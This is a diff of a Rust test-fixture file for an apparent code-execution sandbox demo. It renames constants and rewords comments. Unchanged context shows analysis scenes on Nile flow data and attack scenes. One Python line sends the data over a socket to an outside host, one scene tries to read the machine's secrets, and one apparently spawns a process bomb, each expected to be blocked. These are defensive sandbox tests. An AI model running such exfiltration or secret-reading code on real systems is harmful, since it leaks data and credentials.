@@ -2,8 +2,8 @@
 
 use serde_json::{Value, json};
 
-/// The file that the demo works on. It is in the public domain; `examples/README.md` says where it comes from.
-pub(super) const NILE: &[u8] = include_bytes!("../../../../../examples/nile.csv");
+/// The demo's data set. It is in the public domain; `examples/README.md` gives its source.
+pub(super) const NILE_CSV: &[u8] = include_bytes!("../../../../../examples/nile.csv");
 
 /// One call of a tool.
 #[derive(Debug)]
@@ -16,9 +16,9 @@ pub(super) struct Scene {
     pub(super) code: &'static str,
     /// The time limit of the code; none: the default.
     pub(super) timeout_s: Option<u32>,
-    /// The status that must come back.
+    /// The expected status.
     pub(super) status: &'static str,
-    /// `cause.code` must be one of these; empty: there must be no cause.
+    /// The accepted values of `cause.code`; empty: there must be no cause.
     pub(super) causes: &'static [&'static str],
     /// Texts that the answer must contain.
     pub(super) answers: &'static [&'static str],
@@ -50,8 +50,8 @@ const fn code(title: &'static str, code: &'static str, answers: &'static [&'stat
     }
 }
 
-/// The analysis, each step using what the one before it left behind.
-pub(super) const ANALYSIS: &[Scene] = &[
+/// The analysis. Each step uses the variables of the step before.
+pub(super) const ANALYSIS_SCENES: &[Scene] = &[
     code(
         "Read the file",
         r#"import csv
@@ -100,8 +100,8 @@ print(f"the flow drops after {year}: from {before:.2f} to {after:.2f} on average
     ),
 ];
 
-/// Code that means harm, or does it by accident.
-pub(super) const ATTACKS: &[Scene] = &[
+/// Code that does harm, on purpose or by accident.
+pub(super) const ATTACK_SCENES: &[Scene] = &[
     Scene {
         title: "Try to send the data away",
         tool: "execute_code",
@@ -111,7 +111,7 @@ socket.create_connection(("1.1.1.1", 443), timeout=3).sendall(repr(flow).encode(
         status: "error",
         causes: &["network_denied"],
         answers: &[],
-        moral: "There is no network in the sandbox, and the answer says so in words a model understands.",
+        moral: "There is no network in the sandbox, and the answer states it in words that a model understands.",
     },
     Scene {
         title: "Try to read secrets of this machine",
@@ -179,10 +179,10 @@ print(f"{len(bomb)} processes ended; still {len(flow)} years here")"#,
 
 #[cfg(test)]
 mod tests {
-    use super::NILE;
+    use super::NILE_CSV;
 
     fn volumes() -> Vec<(u32, u64)> {
-        let text = std::str::from_utf8(NILE).unwrap();
+        let text = std::str::from_utf8(NILE_CSV).unwrap();
         let mut lines = text.lines();
         assert_eq!(lines.next(), Some("year,volume"));
         lines
